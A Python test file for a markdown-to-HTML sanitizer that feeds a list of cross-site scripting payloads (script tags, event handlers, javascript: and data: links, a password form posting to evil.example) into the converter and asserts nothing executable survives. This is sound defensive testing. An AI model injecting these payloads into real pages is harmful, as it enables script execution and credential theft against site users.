"""People's text becomes safe HTML, and nothing else of it is alive (C1)."""

from urllib.parse import urlsplit

import pytest
from bs4 import BeautifulSoup
from hypothesis import given
from hypothesis import strategies as st
from markupsafe import Markup

from consult.markup import SCHEMES, TAGS, block_in_language, in_language, to_html

CANARIES = [
    "<script>alert(1)</script>",
    '"><svg onload=alert(1)>',
    "<img src=x onerror=alert(1)>",
    "<ScRiPt/src=//evil.example/x.js>",
    "<iframe src=javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>@import '//evil.example'</style>",
    "<!--><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "</p></div></main><form action=//evil.example><input name=password>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](  javascript:alert(1))",
    "[x](<java\nscript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](vbscript:x)",
    "[x](file:///etc/passwd)",
    '[x](https://a.pl "onmouseover=alert(1)")',
    "[x](https://a.pl' onmouseover='alert(1))",
    "[x][1]\n\n[1]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "![x](https://evil.example/a.png)",
    "![x](x onerror=alert(1))",
    "{{ 7*7 }} {% raw %} {{ config }}",
    "`<script>alert(1)</script>`",
    "```\n<script>alert(1)</script>\n```",
    "    <script>alert(1)</script>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\u202e<script>",
    "\x00<scr\x00ipt>alert(1)</script>",
    "- <script>\n  - > <img src=x onerror=alert(1)>",
    "# <script>alert(1)</script>",
]
ATTRIBUTES = {"a": {"href", "rel"}, "ol": {"start"}}
PIECES = st.sampled_from(
    ["[", "](", ")", "<", ">", "*", "_", "#", "-", "\n", "    ", "`", "&", ";", "javascript:", "//a.pl", '"', "'", "!"]
)  # fmt: skip


def alive(html):
    """List what a browser would make of the HTML that is not allowed."""
    for tag in BeautifulSoup(html, "html.parser").select("*"):
        if tag.name not in TAGS:
            yield f"<{tag.name}>"
        yield from (f"{tag.name} {name}" for name in tag.attrs.keys() - ATTRIBUTES.get(tag.name, set()))
        if tag.name == "a" and tag.get("href") and urlsplit(tag["href"]).scheme not in SCHEMES | {""}:
            yield tag["href"]


@pytest.mark.parametrize("text", CANARIES, ids=ascii)
def test_a_canary_stays_silent(text):
    html = to_html(text)
    assert isinstance(html, Markup)
    assert list(alive(html)) == []
    assert "<script" not in html.lower()
    assert "<img" not in html.lower()


@given(st.lists(st.text(max_size=4) | PIECES | st.sampled_from(CANARIES), max_size=30).map("".join))
def test_nothing_but_the_allowed_is_alive(text):
    assert list(alive(to_html(text))) == []


@given(st.lists(st.text(max_size=4) | PIECES, max_size=20).map("".join))
def test_every_element_is_closed(text):
    html = str(to_html(text))
    again = BeautifulSoup(html, "html.parser").decode(formatter="minimal")
    assert html.count("<p>") == html.count("</p>") == again.count("</p>")
    assert html.count("<li>") == html.count("</li>") == again.count("</li>")


def test_what_authors_write():
    text = "# Park\n\n## Trees\n\n### Oaks\n\n- one\n- two\n  1. *a*\n  2. **b**\n\n> said\n\na\\\nb\n\n***\n\n[x](https://a.pl)"
    page = BeautifulSoup(to_html(text), "html.parser")
    assert [tag.name for tag in page.find_all(["h1", "h2", "h3", "h4"])] == ["h3", "h4", "h4"]
    assert page.select_one("ul > li > ol > li > em").text == "a"
    assert page.select_one("ol strong").text == "b"
    assert page.blockquote.text.strip() == "said"
    assert page.br
    assert page.hr
    assert page.a.attrs == {"href": "https://a.pl", "rel": ["noopener", "noreferrer", "nofollow"]}


@pytest.mark.parametrize("address", ["mailto:a@b.pl", "tel:+48412345678", "http://a.pl", "/k/park", "#top"])
def test_links_that_are_links(address):
    assert BeautifulSoup(to_html(f"[x]({address})"), "html.parser").a["href"] == address


@pytest.mark.parametrize(
    "text", ["5 < 7 & 7 > 5", "<b>bold</b>", "a@b.pl", "&amp; &copy;", "{{ 7*7 }}", "`a`", "3 * 4"]
)
def test_all_else_is_shown_as_typed(text):
    assert BeautifulSoup(to_html(text), "html.parser").text.strip() == text


def test_a_list_begins_where_its_author_says():
    assert BeautifulSoup(to_html("4. four\n5. five"), "html.parser").ol["start"] == "4"


@pytest.mark.parametrize("piece", ["*", "[", "](", "> ", "- ", "_a*", "<a", "![", "`", "\\", "# ", "1. "], ids=repr)
@pytest.mark.complete
def test_a_long_text_meant_to_be_slow_is_shown(piece):
    assert to_html((piece * 20_000)[:20_000])


def test_another_language_is_marked():
    assert in_language("a < b", "pl") == '<span lang="pl">a &lt; b</span>'
    assert in_language(Markup("<em>a</em>"), "uk") == '<span lang="uk"><em>a</em></span>'
    assert in_language("a", '"><x') == '<span lang="&quot;&gt;&lt;x">a</span>'
    assert block_in_language(Markup("<p>a</p>"), "pl") == '<div lang="pl"><p>a</p></div>'
